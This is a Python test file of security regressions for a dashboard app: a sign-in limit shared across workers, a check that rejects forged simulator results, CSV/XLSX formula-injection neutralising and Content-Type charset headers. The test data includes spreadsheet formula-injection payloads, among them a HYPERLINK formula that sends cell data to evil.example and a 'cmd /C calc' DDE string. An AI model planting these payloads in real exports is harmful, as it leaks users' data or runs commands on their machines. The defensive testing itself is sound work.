"""Attacks of the fourth review (branch h32-sec2), tried against the real app and the real export functions.

Each test failed before its fix:
- the per-address sign-in limit was counted in each gunicorn worker's memory, so N workers allowed N times the
  limit (two apps over one data folder stand in for two workers: each counted only its own attempts);
- the simulator's Save stored whatever results the browser sent back with the parameters, so a national account
  could file made-up outcomes under its name as the simulation of real parameters (Export likewise);
- a text cell starting with blanks and then = + - @ (" =HYPERLINK(...)", "\\u3000=1+1") left CSV and XLSX exports
  as it was: LibreOffice and some Excel import paths trim the blanks and read a formula;
  (and every message of the simulator's own - run first, no parameter changed, an error - was a 500: one value
  short of the callback's outputs);
- dossiers (and the extract and download files) were served as "text/html; charset=utf-8; charset=utf-8".
"""

from __future__ import annotations

import csv
import io
import json

import duckdb
import openpyxl
import polars as pl
import pytest
from dashboard_http import callback_body, login, signed_in_client
from limits import parse_many

from dashboards import auth, security, web
from dashboards.app import create_app
from dashboards.pages import simulator
from pipelines import extracts as X
from pipelines import scenarios as sc

pytestmark = pytest.mark.slow  # the session's sample run


def _app(snapshot, base, **kw):
    """One dashboard process's app over the data folder ``base`` (accounts and session key in base/access)."""
    return create_app(
        snapshot,
        user_store=base / "access" / "users.sqlite",
        secret_key_file=base / "access" / "secret_key",
        extracts_dir=kw.pop("extracts_dir", base / "extracts"),
        **kw,
    )


# ---- 1. the per-address sign-in limit holds across workers ---------------------------------------------------------
def test_sign_in_attempts_through_two_workers_count_toward_one_limit(sample_snapshot, tmp_path):
    worker_a, worker_b = _app(sample_snapshot.snapshot, tmp_path), _app(sample_snapshot.snapshot, tmp_path)
    per_minute = min(item.amount for item in parse_many(web.LOGIN_LIMIT))
    statuses = []
    for i in range(per_minute + 1):
        worker = (worker_a, worker_b)[i % 2]
        # a new user name each time: the per-account lockout never comes into it, only the address's count
        statuses.append(login(worker.server.test_client(), f"guess{i}", "wrong wrong wrong").status_code)
    assert statuses[:per_minute] == [401] * per_minute
    assert statuses[per_minute] == 429, statuses
    # and it stays refused through either worker
    assert login(worker_a.server.test_client(), "guessx", "wrong wrong wrong").status_code == 429
    assert login(worker_b.server.test_client(), "guessy", "wrong wrong wrong").status_code == 429


def test_the_shared_limit_storage_counts_fixed_windows_in_the_store(tmp_path):
    store = auth.UserStore(tmp_path / "users.sqlite")
    one, other = auth.SharedLimitStorage(store=store), auth.SharedLimitStorage(store=auth.UserStore(store.path))
    assert one.incr("k", 60) == 1 and other.incr("k", 60) == 2 and one.get("k") == 2
    assert other.get_expiry("k") == one.get_expiry("k")
    assert one.incr("k", 0) == 3  # a later hit does not move the window's end (a fixed window)
    assert other.get_expiry("k") == one.get_expiry("k")
    one.clear("k")
    assert other.get("k") == 0 and one.check()
    assert one.incr("gone", 0) == 1 and one.get("gone") == 0  # an ended window counts nothing
    assert one.incr("gone", 60) == 1  # and the next hit opens a new one


# ---- 2. the simulator saves only results the server computed ------------------------------------------------------
def _act_body(app, trigger: str, result, name: str = "", saved_id: str | None = None) -> dict:
    """The simulator's main callback as the browser posts it (no rule or weight inputs on the page)."""
    key = next(k for k in app.callback_map if k.startswith("..sim-status.children"))
    body = callback_body(
        [
            ("sim-status", "children"),
            ("sim-result", "data"),
            ("sim-cards", "children"),
            ("sim-changes", "children"),
            ("sim-saved", "options"),
            ("sim-compare-with", "options"),
            ("sim-name", "value"),
        ],
        [(b, "n_clicks", 1 if b == trigger else None) for b in ("sim-run", "sim-save", "sim-open", "sim-compare")],
        [
            ("sim-name", "value", name),
            ("sim-saved", "value", saved_id),
            ("sim-compare-with", "value", None),
            ("sim-result", "data", result),
        ],
    )
    body["output"] = key
    body["outputs"] += [[], []]  # the rule and weight inputs (pattern-matching): none here
    # then the rule and weight values and ids (none), and the page's language
    body["state"] += [[], [], [], [], {"id": "sim-lang", "property": "data", "value": "en"}]
    body["changedPropIds"] = [f"{trigger}.n_clicks"]
    return body


def _post(client, body):
    r = client.post("/_dash-update-component", data=json.dumps(body), content_type="application/json")
    assert r.status_code == 200, r.get_data(as_text=True)[:300]
    return r.get_json()["response"]


def test_simulator_save_refuses_results_the_server_did_not_compute(sample_snapshot, tmp_path, monkeypatch):
    monkeypatch.setenv("IPCITY_SCENARIOS", str(tmp_path / "scenarios"))
    app = _app(sample_snapshot.snapshot, tmp_path)
    national = signed_in_client(app, tmp_path / "access" / "users.sqlite", "nat4", "national")
    con = duckdb.connect(str(sample_snapshot.snapshot), read_only=True)
    try:
        code, name, province = con.execute(
            "select unit_code, unit_name, province_code from marts.dim_city where level <> 'province' limit 1"
        ).fetchone()
    finally:
        con.close()
    row = {"kind": "verdict", "unit_code": code, "unit_name": name, "province_code": province, "period": "2021-2025"}
    # a scenario the server ran earlier (saved through the store, as Save did), opened on the page
    scenario = sc.Scenario(rules={"W1.bottom_group": "moderate"})
    real = pl.DataFrame(
        [{**row, "base_value": "pass", "scenario_value": "rectification", "robustness": "robust"}],
        schema=sc._CHANGE_SCHEMA,
    )
    sc.save_scenario("abc123def456", "W1", scenario, real, author="nat4", base_snapshot=sample_snapshot.snapshot.name)
    opened = _post(national, _act_body(app, "sim-open", None, saved_id="abc123def456"))["sim-result"]["data"]
    assert opened["changes"][0]["scenario_value"] == "rectification"

    # made up from scratch, or the opened result with its outcome changed: refused, nothing stored
    forged = {
        "scenario_id": "000000000000",
        "params": scenario.to_json(),
        "changes": [{**row, "base_value": "pass", "scenario_value": "exit_candidate", "robustness": "robust"}],
        "base_snapshot": sample_snapshot.snapshot.name,
    }
    edited = {**opened, "changes": [{**opened["changes"][0], "scenario_value": "pass"}]}
    reparam = {**opened, "params": sc.Scenario(rules={"W1.bottom_group": "strong"}).to_json()}
    for bad in (forged, {**forged, "seal": opened["seal"]}, edited, reparam):
        out = _post(national, _act_body(app, "sim-save", bad, name="made up"))
        assert out["sim-status"]["children"].startswith("Not saved"), out
        assert "made up" not in sc.list_scenarios()["name"].to_list()
        # and not exported as a simulation result either
        export = callback_body(
            [("sim-download", "data")],
            [("sim-export-csv", "n_clicks", 1), ("sim-export-xlsx", "n_clicks", None)],
            [("sim-result", "data", bad), ("sim-name", "value", "x")],
        )
        assert _post(national, export)["sim-download"]["data"] is None

    audited = [
        r for r in auth.UserStore(tmp_path / "access" / "users.sqlite").audit_rows() if r["action"] == "scenario_save"
    ]
    assert len(audited) == 4 and {(r["username"], r["outcome"]) for r in audited} == {("nat4", "refused")}

    # the page's own refusals answer (every one was a 500: one output short), storing nothing
    out = _post(national, _act_body(app, "sim-save", None, name="made up"))
    assert out["sim-status"]["children"] == "Run a scenario first."
    # the server's own result saves (under the saving account) and exports
    out = _post(national, _act_body(app, "sim-save", opened, name="again"))
    assert out["sim-status"]["children"] == "Saved: again"
    _info, _params, stored = sc.load_scenario("abc123def456")
    assert stored.to_dicts() == real.to_dicts()
    export["state"][0]["value"] = opened
    assert _post(national, export)["sim-download"]["data"]["filename"] == "scenario_abc123def456.csv"
    # a seal is the server's: another server's key (another installation) does not make it
    other = _app(sample_snapshot.snapshot, tmp_path / "other")
    with other.server.test_request_context():
        assert not simulator.genuine(opened) and simulator.genuine(simulator.sealed(opened))


# ---- 3. blanks before a formula sign --------------------------------------------------------------------------------
BLANK_LED = [
    ' =HYPERLINK("http://evil.example/?"&A1,"点击")',
    "\u3000=1+1",
    "  +1+cmd|' /C calc'!A0",
    "\u00a0-2+3",
    " @SUM(1+1)",
    "\u200b=1+1",
    "\ufeff=1+1",
    " \t=1+1",
    "\u3000＝1+1",
]
HARMLESS = ["广州市", " 广州市", "a = b", "\u3000", " ", "", "1-2", "'=x"]


def test_blank_led_formulas_are_neutralised_cell_by_cell_and_column_by_column():
    for text in BLANK_LED:
        assert security.neutralise_cell(text) == "'" + text, repr(text)
    for text in HARMLESS:
        assert security.neutralise_cell(text) == text, repr(text)
    df = pl.DataFrame({"name": BLANK_LED + HARMLESS, "n": list(range(len(BLANK_LED + HARMLESS)))})
    out = security.neutralise_text(df)
    assert out["name"].to_list() == ["'" + t for t in BLANK_LED] + HARMLESS
    assert out["n"].to_list() == df["n"].to_list()
    cat = security.neutralise_text(df.with_columns(pl.col("name").cast(pl.Categorical)))
    assert cat["name"].to_list() == out["name"].to_list()


def test_blank_led_formulas_never_reach_an_export(tmp_path):
    changes = pl.DataFrame(
        [
            {**dict.fromkeys(sc._CHANGE_SCHEMA), "kind": "rank", "unit_code": "440100", "unit_name": t}
            for t in BLANK_LED
        ],
        schema=sc._CHANGE_SCHEMA,
    )
    csv_text = sc.export_changes(changes, "csv", name=" =1+1").decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(csv_text)) for c in row]
    wb = openpyxl.load_workbook(io.BytesIO(sc.export_changes(changes, "xlsx", name=" =1+1")))
    xcells = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    for got in (cells, xcells):
        assert not [c for c in got if c.lstrip(security.LEADING_BLANKS).startswith(security.FORMULA_TRIGGERS)], got
        assert "'" + BLANK_LED[0] in got and "' =1+1" in got


# ---- 4. one charset in the Content-Type of every served file --------------------------------------------------------
def test_dossiers_extracts_and_downloads_name_one_charset(sample_snapshot, tmp_path):
    extracts = sample_snapshot.snapshot.parent.parent / "extracts"
    if not any(extracts.glob("*/*/versions.json")):  # a reused run from before extracts: the pipeline's writer
        extracts = tmp_path / "extracts"
        X.write_all(sample_snapshot.snapshot, extracts)
    app = _app(sample_snapshot.snapshot, tmp_path, dossier_dir=sample_snapshot.dossier_dir, extracts_dir=extracts)
    client = signed_in_client(app, tmp_path / "access" / "users.sqlite", "nat4c", "national")
    dossier = client.get("/dossiers/" + sample_snapshot.dossiers[0])
    assert dossier.status_code == 200 and dossier.headers["Content-Type"] == "text/html; charset=utf-8"
    con = duckdb.connect(str(sample_snapshot.snapshot), read_only=True)
    try:
        year = con.execute("select max(year) from marts.fct_city_score_year").fetchone()[0]
    finally:
        con.close()
    download = client.get(f"/download/extract?fmt=csv&year={year}&province=440000")
    assert download.status_code == 200 and download.headers["Content-Type"] == "text/csv; charset=utf-8"
    version = X.read_versions(extracts, "440000", year)[-1]
    served = {f["format"]: client.get("/extracts/" + f["path"]) for f in version["files"]}
    assert served["csv"].status_code == 200 and served["csv"].headers["Content-Type"] == "text/csv; charset=utf-8"
    for r in served.values():
        assert r.headers["Content-Type"].count("charset") <= 1, r.headers["Content-Type"]
